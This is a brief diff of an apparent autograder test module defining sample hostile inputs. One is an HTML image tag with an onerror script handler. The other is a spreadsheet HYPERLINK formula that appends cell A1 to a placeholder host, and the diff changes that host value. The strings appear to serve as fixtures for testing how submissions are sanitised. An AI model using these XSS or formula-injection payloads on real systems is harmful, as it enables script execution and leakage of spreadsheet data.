@@ -12,7 +12,7 @@ from autograder.lessons.submission import Submission, Unit
 
 LESSON = "sums"
 HTML = "<img src=x onerror='window.pwned=1'>"
-FORMULA = '=HYPERLINK("http://a.b/"&A1)'
+FORMULA = '=HYPERLINK("a.b"&A1)'
 
 
 def sources(solution: str) -> dict[str, str | None]:
